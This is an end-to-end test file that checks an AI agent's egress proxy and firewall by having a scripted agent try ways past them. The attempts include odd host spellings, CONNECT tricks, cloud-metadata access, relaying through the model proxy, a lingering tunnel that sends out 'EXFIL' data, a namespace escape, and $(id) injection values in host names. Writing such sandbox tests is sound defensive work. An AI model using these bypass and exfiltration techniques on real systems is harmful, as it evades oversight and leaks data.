// Egress, attacked again: ways past the egress proxy's parsing and the kernel rules that
// egress.test.ts does not try. Runs only inside the network and mount namespaces
// scripts/test-egress.sh makes (sh scripts/test-egress.sh __tests__/e2e/egress-attacks.test.ts),
// with the same guard as egress.test.ts: no rule is ever added in this machine's namespace.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { parseHostRule } from '../../src/egress/hosts.js'
import { message, shell } from '../../test-support/responses-server.js'
import type { ActionRun } from '../../test-support/runner.js'
import { IN_MACHINE_NETWORK, IN_TEST_MOUNTS, act, scratchRepository, startWorld, type World } from './harness.js'

const skipWhy = process.getuid?.() !== 0 ? 'not root' : IN_MACHINE_NETWORK || !IN_TEST_MOUNTS ? "not in a test-made network and mount namespace (run 'npm run test:egress')" : undefined

const METADATA = '169.254.169.254'

interface Recorder {
  port: number
  connections: number
  requests: string[]
  reset(): void
}

const servers: Server[] = []

async function httpServer(host: string, port = 0, body = `hello from ${host}`): Promise<Recorder> {
  const recorder: Recorder = { port: 0, connections: 0, requests: [], reset: () => ((recorder.connections = 0), (recorder.requests = [])) }
  const server = createServer((request, response) => {
    recorder.requests.push(`${request.method} ${request.url} host=${request.headers.host ?? ''}`)
    response.end(body)
  })
  server.on('connection', () => recorder.connections++)
  await new Promise<void>((resolve) => server.listen(port, host, resolve))
  servers.push(server)
  recorder.port = (server.address() as AddressInfo).port
  return recorder
}

let allowed: Recorder, refused: Recorder, metadata: Recorder, ipv6: Recorder
/** An allowed host that reads what it is sent and never closes its side: a slow upload endpoint. */
const halfOpen = { port: 0, received: 0 }
const halfOpenSockets: Socket[] = []

beforeAll(async () => {
  if (skipWhy) return
  execFileSync('ip', ['addr', 'replace', `${METADATA}/32`, 'dev', 'lo'])
  const hosts = path.join(mkdtempSync(path.join(os.tmpdir(), 'egress-hosts-')), 'hosts')
  writeFileSync(hosts, `127.0.0.1 localhost\n::1 localhost\n127.0.0.2 allowed.test\n127.0.0.3 refused.test\n127.0.0.4 slow.test\n${METADATA} metadata.test sneaky.wild.test\n`, { mode: 0o644 })
  execFileSync('mount', ['--bind', hosts, '/etc/hosts'])
  allowed = await httpServer('127.0.0.2', 0, 'allowed-ok')
  refused = await httpServer('127.0.0.3', 0, 'refused-reached')
  metadata = await httpServer(METADATA, 80, 'metadata-reached')
  ipv6 = await httpServer('::1', 0, 'ipv6-reached')
  const slow = createTcpServer({ allowHalfOpen: true }, (socket) => {
    socket.on('data', (chunk: Buffer) => (halfOpen.received += chunk.length))
    socket.on('error', () => undefined)
    halfOpenSockets.push(socket)
  })
  await new Promise<void>((resolve) => slow.listen(0, '127.0.0.4', resolve))
  servers.push(slow as unknown as Server)
  halfOpen.port = (slow.address() as AddressInfo).port
})

afterAll(async () => {
  for (const socket of halfOpenSockets.splice(0)) socket.destroy()
  for (const server of servers.splice(0)) await new Promise<void>((resolve) => server.close(() => resolve()))
})

let world: World | undefined
afterEach(async () => {
  await world?.close()
  world = undefined
  for (const recorder of [allowed, refused, metadata, ipv6]) recorder?.reset()
})

async function agentRuns(commands: string[], inputs: Record<string, string>): Promise<ActionRun> {
  world = await startWorld([...commands.map((command) => ({ output: [shell(command)] })), { output: [message('done')] }])
  return act(world, scratchRepository(), { inputs })
}

function toolOutput(i: number): string {
  return world?.model.requests[i + 1]?.toolOutputs.at(-1) ?? '<no request>'
}

function networkLog(run: ActionRun): Record<string, unknown>[] {
  const folder = readdirSync(run.runnerTemp).find((entry) => entry.startsWith('codex-action-') && !entry.includes('uids'))
  const file = path.join(run.runnerTemp, folder ?? '-', 'output', 'network.jsonl')
  expect(existsSync(file), file).toBe(true)
  return readFileSync(file, 'utf8').trim().split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>)
}

function rulesOfRuns(): string {
  return execFileSync('iptables-save', { encoding: 'utf8' }) + execFileSync('ip6tables-save', { encoding: 'utf8' })
}

const rc = '; echo " rc=$?"'
/** Sends raw bytes to the egress proxy on one connection and prints what comes back. */
const raw = (bytes: string): string =>
  `PP=\${HTTPS_PROXY##*:}; exec 3<>/dev/tcp/127.0.0.1/$PP; printf '${bytes}' >&3; timeout 3 cat <&3 | head -c 600; echo`

describe.skipIf(skipWhy !== undefined)(`egress attacks${skipWhy ? ` (skipped: ${skipWhy})` : ''}`, () => {
  it('the proxy parses every spelling of a host the way it connects, one request at a time, and logs each', async () => {
    const A = `allowed.test:${allowed.port}`
    const R = `refused.test:${refused.port}`
    const commands = [
      // 0: keep-alive: curl reuses one proxy connection for an allowed then a refused URL.
      `curl -sS -m 5 -o /dev/null -o /dev/null -w '%{http_code} ' http://${A}/ka1 http://${R}/ka2${rc}`,
      // 1: pipelining: two absolute-form requests in one write, the second to a refused host.
      raw(`GET http://${A}/pipe1 HTTP/1.1\\r\\nHost: ${A}\\r\\n\\r\\nGET http://${R}/pipe2 HTTP/1.1\\r\\nHost: ${R}\\r\\n\\r\\n`),
      // 2: an allowed absolute-form target with a refused Host header: only the URL counts.
      raw(`GET http://${A}/hosthdr HTTP/1.1\\r\\nHost: ${R}\\r\\nConnection: close\\r\\n\\r\\n`),
      // 3: origin-form with a refused Host header: not forwarded at all.
      raw(`GET /origin HTTP/1.1\\r\\nHost: ${R}\\r\\nConnection: close\\r\\n\\r\\n`),
      // 4-11: CONNECT spellings of refused destinations.
      raw(`CONNECT refused.test.:${refused.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT [refused.test]:${refused.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT 127.0.0.3:${refused.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT 2130706435:${refused.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT [::ffff:127.0.0.3]:${refused.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT ${A}@refused.test:${refused.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT allowed.test%2e:${allowed.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`CONNECT [::1]:${ipv6.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      // 12-15: the metadata service by other spellings, through the proxy (the wildcard *.wild.test is listed).
      raw(`GET http://[::ffff:a9fe:a9fe]/m1 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n`),
      raw(`GET http://0xa9.0xfe.0xa9.0xfe/m2 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n`),
      raw(`CONNECT SNEAKY.WILD.TEST.:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`GET http://sneaky.wild.test%2e/m4 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n`),
      // 16: an upper-case, trailing-dot allowed name is still the allowed host.
      `curl -sS -m 5 http://ALLOWED.TEST.:${allowed.port}/upper${rc}`,
      // 17: the model proxy as a relay: absolute-form, CONNECT, and a path that names another host.
      `MP=$(grep -rhaoE 'http://127\\.0\\.0\\.1:[0-9]+' "$CODEX_HOME" /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | grep -v ":\${HTTPS_PROXY##*:}" | head -1); MPP=\${MP##*:}; echo "model-port=$MPP"; ` +
        `exec 3<>/dev/tcp/127.0.0.1/$MPP; printf 'GET http://${R}/relay HTTP/1.1\\r\\nHost: ${R}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 3 cat <&3 | head -c 300; echo; ` +
        `exec 4<>/dev/tcp/127.0.0.1/$MPP; printf 'CONNECT ${R} HTTP/1.1\\r\\nHost: ${R}\\r\\n\\r\\n' >&4; timeout 3 cat <&4 | head -c 300; echo`,
      // 18: ICMP (ping sockets or setcap ping), and the proxy port over IPv6 loopback.
      `ping -c 1 -W 2 127.0.0.3 2>&1 | tail -2${rc}; timeout 3 bash -c "exec 3<>/dev/tcp/::1/${ipv6.port} && echo connected6" 2>&1${rc}`
    ]
    const run = await agentRuns(commands, { 'allow-hosts': `${A}, *.wild.test`, 'default-hosts': 'false' })
    const log = run.main.stdout + run.main.stderr
    expect(run.main.outputs.conclusion, log).toBe('success')
    const outputs = commands.map((_, i) => `${i}: ${toolOutput(i)}`).join('\n---\n')
    console.log(outputs)

    expect(toolOutput(0), outputs).toContain('200 403')
    expect(toolOutput(16), outputs).toContain('allowed-ok')
    // Nothing the agent sent reached the refused host, the metadata stand-in or IPv6 loopback.
    expect(refused.connections, `refused: ${refused.requests.join(', ')}\n${outputs}`).toBe(0)
    expect(metadata.connections, `metadata: ${metadata.requests.join(', ')}\n${outputs}`).toBe(0)
    expect(ipv6.connections, `ipv6: ${ipv6.requests.join(', ')}\n${outputs}`).toBe(0)
    // The allowed host got only what was addressed to it, with its own name as Host.
    for (const request of allowed.requests) expect(request, allowed.requests.join('\n')).toMatch(new RegExp(`host=allowed\\.test\\.?:${allowed.port}$`, 'i'))
    // Every request that reached the proxy's request handling is a line of network.jsonl.
    const attempts = networkLog(run)
    console.log(attempts.map((a) => JSON.stringify(a)).join('\n'))
    expect(attempts.filter((a) => a.host === 'refused.test').length, 'refused attempts logged').toBeGreaterThanOrEqual(4)
    expect(rulesOfRuns()).not.toMatch(/CODEX-ACTION-|uid-owner/)
  })

  it('logs a tunnel the agent leaves open until it is stopped: its bytes are in network.jsonl and run.json', async () => {
    const S = `slow.test:${halfOpen.port}`
    const secret = 'EXFIL'.repeat(2000)
    const commands = [
      // A tunnel to an allowed host that never closes its side, left open by a detached child.
      `PP=\${HTTPS_PROXY##*:}; (exec 3<>/dev/tcp/127.0.0.1/$PP; printf 'CONNECT ${S} HTTP/1.1\\r\\nHost: ${S}\\r\\n\\r\\n' >&3; head -c 39 <&3; printf '${secret}' >&3; sleep 600) > /tmp/tunnel.out 2>&1 & sleep 2; cat /tmp/tunnel.out; echo`,
      // A plain-HTTP upload to the same host that is never answered.
      `PP=\${HTTPS_PROXY##*:}; (exec 3<>/dev/tcp/127.0.0.1/$PP; printf 'POST http://${S}/up HTTP/1.1\\r\\nHost: ${S}\\r\\nContent-Length: 10000\\r\\n\\r\\n${secret}' >&3; sleep 600) > /dev/null 2>&1 & sleep 2; echo posted`
    ]
    const run = await agentRuns(commands, { 'allow-hosts': S, 'default-hosts': 'false' })
    expect(run.main.outputs.conclusion, run.main.stdout + run.main.stderr).toBe('success')
    expect(toolOutput(0)).toContain('200 Connection Established')
    expect(halfOpen.received, 'bytes that reached the allowed host').toBeGreaterThanOrEqual(20_000)
    const attempts = networkLog(run)
    console.log(attempts.map((a) => JSON.stringify(a)).join('\n'))
    const record = JSON.parse(readFileSync(path.join(run.runnerTemp, readdirSync(run.runnerTemp).find((e) => e.startsWith('codex-action-') && !e.includes('uids')) ?? '-', 'output', 'run.json'), 'utf8'))
    console.log(JSON.stringify(record.network))
    // Both went out: both must be on record, with the bytes that left.
    expect(attempts.filter((a) => a.kind === 'connect' && a.host === 'slow.test' && (a.bytesOut as number) >= 10_000), 'the tunnel in network.jsonl').toHaveLength(1)
    expect(attempts.filter((a) => a.kind === 'http' && a.host === 'slow.test'), 'the upload in network.jsonl').toHaveLength(1)
    expect(record.network.attempts.allowed + record.network.attempts.failed, 'run.json counts').toBe(2)
    expect(rulesOfRuns()).not.toMatch(/CODEX-ACTION-|uid-owner/)
  })

  it('keeps a child mapped to a subordinate uid (newuidmap, setuid root) inside the fence', async () => {
    const commands = [
      `id; grep -h "^$(id -un):" /etc/subuid /etc/subgid; echo subids-rc=$?`,
      `unshare --map-auto --map-root-user sh -c 'cat /proc/self/uid_map; curl -sS -m 5 --noproxy "*" http://refused.test:${refused.port}/subuid' 2>&1${rc}`
    ]
    const run = await agentRuns(commands, { 'allow-hosts': 'none.test', 'default-hosts': 'false' })
    expect(run.main.outputs.conclusion, run.main.stdout + run.main.stderr).toBe('success')
    console.log(toolOutput(0), toolOutput(1))
    expect(refused.connections, toolOutput(1)).toBe(0)
    expect(toolOutput(1)).not.toContain('refused-reached')
  })

  it('logs a WebSocket-style upgrade request, to a listed or an unlisted host, that the proxy turns away', async () => {
    const A = `allowed.test:${allowed.port}`
    const R = `refused.test:${refused.port}`
    const commands = [
      raw(`GET http://${R}/ws HTTP/1.1\\r\\nHost: ${R}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n`),
      raw(`GET http://${A}/ws HTTP/1.1\\r\\nHost: ${A}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n`)
    ]
    const run = await agentRuns(commands, { 'allow-hosts': A, 'default-hosts': 'false' })
    expect(run.main.outputs.conclusion, run.main.stdout + run.main.stderr).toBe('success')
    expect(toolOutput(0)).toContain('501')
    expect(refused.connections + allowed.connections).toBe(0)
    const hosts = networkLog(run).map((a) => a.host)
    expect(hosts, 'network.jsonl').toEqual(['refused.test', 'allowed.test'])
    expect(JSON.parse(run.main.outputs['refused-hosts'] ?? '[]')).toContain(R)
  })

  it("writes refused-hosts only as allow-hosts entries, never the agent's raw text (a later step may paste it into a script)", async () => {
    const commands = [
      raw(`CONNECT x\\047$(id)\\047;x.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`),
      raw(`GET http://y\\047$(id)\\047;y.test/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n`)
    ]
    const run = await agentRuns(commands, { 'allow-hosts': 'none.test', 'default-hosts': 'false' })
    expect(run.main.outputs.conclusion, run.main.stdout + run.main.stderr).toBe('success')
    const output = run.main.outputs['refused-hosts'] ?? '[]'
    console.log('REFUSED-HOSTS', output)
    const refusedHosts = JSON.parse(output) as string[]
    expect(refusedHosts.length, toolOutput(0)).toBe(2)
    for (const entry of refusedHosts) {
      expect(entry).toMatch(/^[\w.:[\]*-]+$/)
      expect(() => parseHostRule(entry), entry).not.toThrow()
    }
  })
})
